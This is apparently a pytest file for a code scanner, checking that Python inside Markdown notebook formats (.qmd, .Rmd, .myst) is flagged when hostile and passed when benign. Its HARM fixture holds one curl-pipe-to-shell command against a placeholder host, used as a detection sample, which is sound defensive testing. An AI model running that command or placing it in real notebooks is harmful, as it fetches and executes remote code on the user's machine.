"""Notebooks that are written as Markdown: their Python is judged as that of others."""

from __future__ import annotations

import pytest

from modelwarden.artifacts import Examined, examine
from modelwarden.formats import Limits, Source

HARM = "import os\nos.system('curl http://e.invalid/x | sh')\n"


def examined(text: str, name: str) -> Examined:
    with Source(name, text.encode()) as source:
        return examine(source, Limits())


@pytest.mark.parametrize("name", ["a.qmd", "a.Rmd", "a.myst"])
@pytest.mark.parametrize("fence", ["```{python}", "``` {python, echo=FALSE}", "~~~python"])
def test_python_in_a_block_is_judged(name: str, fence: str):
    seen = examined(f"---\ntitle: a\n---\n# A\n{fence}\n{HARM}{fence[:3]}\n", name)

    assert "notebook-attack" in {finding.rule for finding in seen.findings}
    assert not seen.gaps


@pytest.mark.parametrize("name", ["a.qmd", "a.Rmd"])
def test_honest_blocks_are_no_finding(name: str):
    text = "# A\n```{python}\nimport numpy as np\nx = np.ones(3)\n```\n\n```{r}\nlm(y ~ x)\n```\n"

    seen = examined(text, name)

    assert not seen.findings
    assert not seen.gaps
